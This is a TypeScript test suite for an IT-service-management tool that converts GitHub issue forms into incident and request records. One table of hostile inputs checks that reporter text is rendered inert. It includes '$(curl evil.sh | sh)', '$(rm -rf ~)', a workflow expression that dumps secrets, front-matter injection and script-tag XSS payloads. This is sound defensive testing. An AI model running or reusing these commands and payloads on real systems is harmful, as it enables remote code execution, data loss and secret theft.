import remarkParse from 'remark-parse';
import { unified } from 'unified';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { intakeFromIssue, parseIssueFormBody, quoteUntrusted, renderIssueForms, staleIssueForms, type IssueInput } from '../../src/core/intake.ts';
import { loadWorkspaceFromFiles } from '../../src/io/workspace.ts';
import { cmdbWorkspace } from '../helpers/cmdb-fixture.ts';
import { record } from '../helpers/workspace.ts';

function workspaceFiles(): Record<string, string> {
  return {
    ...cmdbWorkspace(),
    'content/services/SVC-old.md': record('id: SVC-old\nname: Old intranet\nstatus: retired\nowner: TEAM-ops\ntier: 4'),
  };
}

const loaded = () => loadWorkspaceFromFiles(new Map(Object.entries(workspaceFiles())));

function incidentBody(
  description: string,
  service = 'Web shop (SVC-shop)',
  impact = 'High: many users or a whole service',
  urgency = 'Medium: work is slowed down',
): string {
  return `### Service\n\n${service}\n\n### What is happening?\n\n${description}\n\n### Impact\n\n${impact}\n\n### Urgency\n\n${urgency}`;
}

function issue(title: string, body: string, label = 'intake:incident'): IssueInput {
  return {
    number: 42,
    title,
    body,
    created_at: '2026-03-04T08:15:00Z',
    html_url: 'https://github.com/northwind/itsm/issues/42',
    user: { login: 'lin' },
    labels: [{ name: label }],
  };
}

function convert(i: IssueInput) {
  const { workspace } = loaded();
  return intakeFromIssue(i, {
    records: workspace.records,
    timeZone: 'Europe/Berlin',
    ...(workspace.policies.priorityMatrix ? { matrix: workspace.policies.priorityMatrix } : {}),
    nextId: (k) => (k === 'incident' ? 'INC-0003' : 'REQ-0002'),
  });
}

/** Loads the workspace with the new record in it and returns the record as the loader sees it. */
function asLoaded(file: string, text: string) {
  const { workspace, diagnostics } = loadWorkspaceFromFiles(new Map(Object.entries({ ...workspaceFiles(), [file]: text })));
  expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  return workspace.byId.get(file.split('/').pop()!.replace('.md', ''))!;
}

describe('issue forms', () => {
  it('offer the active services and their offerings, each with its ID', () => {
    const forms = renderIssueForms(loaded().workspace.records);
    const incident = parseYaml(forms['.github/ISSUE_TEMPLATE/report-incident.yml']!);
    const service = incident.body.find((b: { id?: string }) => b.id === 'service');
    expect(service.attributes.options).toEqual(['Partner portal (SVC-portal)', 'Web shop (SVC-shop)']);
    const request = parseYaml(forms['.github/ISSUE_TEMPLATE/request-service.yml']!);
    expect(request.body[0].attributes.options).toEqual(['Web shop: New shop admin account (SVC-shop/new-account)']);
    for (const form of [incident, request]) {
      const ids = form.body.filter((b: { id?: string }) => b.id).map((b: { id: string }) => b.id);
      expect(new Set(ids).size).toBe(ids.length);
    }
  });

  it('are reported as out of date when the services change', () => {
    const records = loaded().workspace.records;
    const forms = renderIssueForms(records);
    expect(staleIssueForms(records, (p) => forms[p])).toEqual([]);
    const stale = staleIssueForms(records, (p) => forms[p]!.replace('Web shop (SVC-shop)', 'Webshop (SVC-shop)'));
    expect(stale.map((d) => [d.file, d.rule, d.severity])).toEqual([['.github/ISSUE_TEMPLATE/report-incident.yml', 'intake/forms-outdated', 'warning']]);
  });
});

describe('reading a rendered issue form', () => {
  it('takes each answer under its question, and "_No response_" as empty', () => {
    const a = parseIssueFormBody('### What do you need?\n\nX (SVC-a/b)\n\n### Details\n\n_No response_', ['What do you need?', 'Details']);
    expect([...a]).toEqual([
      ['Details', ''],
      ['What do you need?', 'X (SVC-a/b)'],
    ]);
  });

  it('is not fooled by question headings typed into an answer', () => {
    const a = parseIssueFormBody(incidentBody('It broke.\n### Impact\n\nLow: one person or a workaround exists\n### Urgency\n\nLow: it can wait'), [
      'Service',
      'What is happening?',
      'Impact',
      'Urgency',
    ]);
    expect(a.get('Impact')).toBe('High: many users or a whole service');
    expect(a.get('Urgency')).toBe('Medium: work is slowed down');
    expect(a.get('What is happening?')).toContain('### Impact');
  });
});

describe('intake of an incident', () => {
  it('makes a valid incident: choices mapped, priority from the matrix, time in the workspace zone', () => {
    const r = convert(issue('[Incident]: Checkout is down', incidentBody('Since 9:00 every payment fails.')));
    if (!r.ok) throw new Error(r.problems.join('; '));
    expect(r.file).toBe('content/incidents/INC-0003.md');
    expect(r.text).toBe(`---
id: INC-0003
title: Checkout is down
caller:
  name: lin
status: new
service: SVC-shop
impact: high
urgency: medium
priority: P2
reported_at: 2026-03-04T09:15:00+01:00
timeline:
  - {at: 2026-03-04T09:15:00+01:00, status: new, note: 'Reported through issue #42'}
source:
  system: github-issue
  id: '42'
  url: https://github.com/northwind/itsm/issues/42
---

Reported through issue #42 by @lin: https://github.com/northwind/itsm/issues/42.

The reporter wrote:

~~~text
Since 9:00 every payment fails.
~~~
`);
    asLoaded(r.file, r.text);
  });

  const hostile: Array<[string, string, string]> = [
    ['command substitution', 'Checkout $(curl evil.sh | sh) down', 'Output was $(rm -rf ~) and `id`'],
    ['backticks', '`reboot` the `web` tier', '```\nfenced\n```\nand ``double``'],
    ['workflow expressions', '${{ secrets.GITHUB_TOKEN }} leaked', 'echo ${{ github.event.issue.title }} ${{ toJSON(secrets) }}'],
    ['front matter fences', '---\nservice: SVC-portal\n---', '---\nid: INC-9999\nstatus: closed\n---\n\n# Fake body\n~~~\n~~~~~\nstill quoted'],
    [
      'HTML and Markdown',
      '<script>alert(1)</script><img src=x onerror=alert(2)>',
      '<iframe src="https://evil.example"></iframe>\n[click](javascript:alert(1)) ![x](https://evil.example/t.png)\n# Heading\n<!-- comment -->',
    ],
  ];

  it.each(hostile)('keeps %s as inert text', (_what, title, text) => {
    const r = convert(issue(title, incidentBody(text)));
    if (!r.ok) throw new Error(r.problems.join('; '));
    const rec = asLoaded(r.file, r.text);
    // The front matter holds exactly the fields intake sets, the title on one line as typed.
    expect(Object.keys(rec.data).sort()).toEqual([
      'caller',
      'id',
      'impact',
      'priority',
      'reported_at',
      'service',
      'source',
      'status',
      'timeline',
      'title',
      'urgency',
    ]);
    expect((rec.data as { title: string }).title).toBe(title.replace(/\s+/g, ' ').trim());
    expect((rec.data as { service: string }).service).toBe('SVC-shop');
    expect((rec.data as { status: string }).status).toBe('new');
    // The body renders the reporter's text as one code block: no HTML, links, images or headings.
    const tree = unified().use(remarkParse).parse(rec.body);
    const kinds = tree.children.map((n) => n.type);
    expect(kinds).toEqual(['paragraph', 'paragraph', 'code']);
    expect((tree.children[2] as { value: string }).value).toBe(text.trim());
    expect(JSON.stringify(tree)).not.toMatch(/"type":"(html|link|image|heading)"/);
  });

  it.each([
    [
      'a service that is not an option',
      incidentBody('x', 'Old intranet (SVC-old)'),
      'the service "Old intranet (SVC-old)" is not one of the form\'s options (the form may be out of date)',
    ],
    ['a missing impact', incidentBody('x', 'Web shop (SVC-shop)', '_No response_'), 'no impact was chosen'],
    [
      'an invented urgency',
      incidentBody('x', 'Web shop (SVC-shop)', 'Low: one person or a workaround exists', 'Yesterday'),
      'the urgency "Yesterday" is not one of the form\'s options',
    ],
  ])('refuses %s', (_what, body, problem) => {
    const r = convert(issue('Broken', body));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems).toContain(problem);
  });

  it('refuses an issue that did not come from a form', () => {
    const r = convert(issue('Broken', incidentBody('x'), 'bug'));
    expect(r.ok ? [] : r.problems).toEqual(['issue #42 has neither the intake:incident nor the intake:request label, so it did not come from an intake form']);
  });
});

describe('intake of a service request', () => {
  it('makes a valid request with the author as requester: an external contact named by the login when no team lists it', () => {
    const r = convert(
      issue(
        '[Request]: Admin account for Lin',
        '### What do you need?\n\nWeb shop: New shop admin account (SVC-shop/new-account)\n\n### Details\n\nFor the spring sale.',
        'intake:request',
      ),
    );
    if (!r.ok) throw new Error(r.problems.join('; '));
    expect(r.file).toBe('content/requests/REQ-0002.md');
    const rec = asLoaded(r.file, r.text);
    expect(rec.data).toMatchObject({
      id: 'REQ-0002',
      title: 'Admin account for Lin',
      service: 'SVC-shop',
      offering: 'new-account',
      requester: { name: 'lin' },
      status: 'new',
      requested_at: '2026-03-04T09:15:00+01:00',
      source: { system: 'github-issue', id: '42', url: 'https://github.com/northwind/itsm/issues/42' },
    });
  });
});

describe('the caller', () => {
  it('is the author by handle when the team files list their login (any of their logins), and the reporter of the first entry', () => {
    const r = convert({ ...issue('[Incident]: Checkout is down', incidentBody('x')), user: { login: 'ADA' } });
    if (!r.ok) throw new Error(r.problems.join('; '));
    const rec = asLoaded(r.file, r.text);
    expect(rec.data).toMatchObject({ caller: 'ada', timeline: [{ status: 'new', by: 'ada' }] });
  });

  it('is {name: login} for an author outside the team files, with no `by`', () => {
    const r = convert(issue('[Incident]: Checkout is down', incidentBody('x')));
    if (!r.ok) throw new Error(r.problems.join('; '));
    const rec = asLoaded(r.file, r.text);
    expect(rec.data).toMatchObject({ caller: { name: 'lin' } });
    expect((rec.data as { timeline: object[] }).timeline[0]).not.toHaveProperty('by');
  });
});

describe('where a record came from', () => {
  it('keeps the issue number as source, and leaves out a page address that is not a plain https URL', () => {
    for (const html_url of [
      'javascript:alert(1)',
      'https://evil.example/a b',
      'https://evil.example/x)](y',
      'https://evil.example/<x>',
      'https://evil.example/|',
    ]) {
      const r = convert({ ...issue('[Incident]: Checkout is down', incidentBody('x')), html_url });
      if (!r.ok) throw new Error(r.problems.join('; '));
      const rec = asLoaded(r.file, r.text);
      expect((rec.data as { source: unknown }).source).toEqual({ system: 'github-issue', id: '42' });
      expect(rec.body).not.toContain('evil');
    }
  });
});

describe('quoting untrusted text', () => {
  it('property: any text renders as exactly one code block holding that text', () => {
    const md = fc.constantFrom(
      '~',
      '~~~',
      '~~~~',
      '`',
      '```',
      '---',
      '<',
      '>',
      '<script>',
      '#',
      '[',
      ']',
      '(',
      ')',
      '!',
      '*',
      '_',
      '\n',
      '\n\n',
      ' ',
      '    ',
      'text',
      '${{',
      '}}',
      '$(',
      '\r\n',
      '|',
      '-->',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(md, fc.string()), { maxLength: 30 }).map((parts) => parts.join('')),
        (text) => {
          const quoted = quoteUntrusted(text);
          const clean = text
            .replace(/\r\n?/g, '\n')
            .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '')
            .trim();
          if (!clean) {
            expect(quoted).toBe('');
            return;
          }
          const tree = unified().use(remarkParse).parse(quoted);
          expect(tree.children.map((n) => n.type)).toEqual(['paragraph', 'code']);
          expect((tree.children[1] as { value: string }).value).toBe(clean);
        },
      ),
      { numRuns: 300 },
    );
  });
});
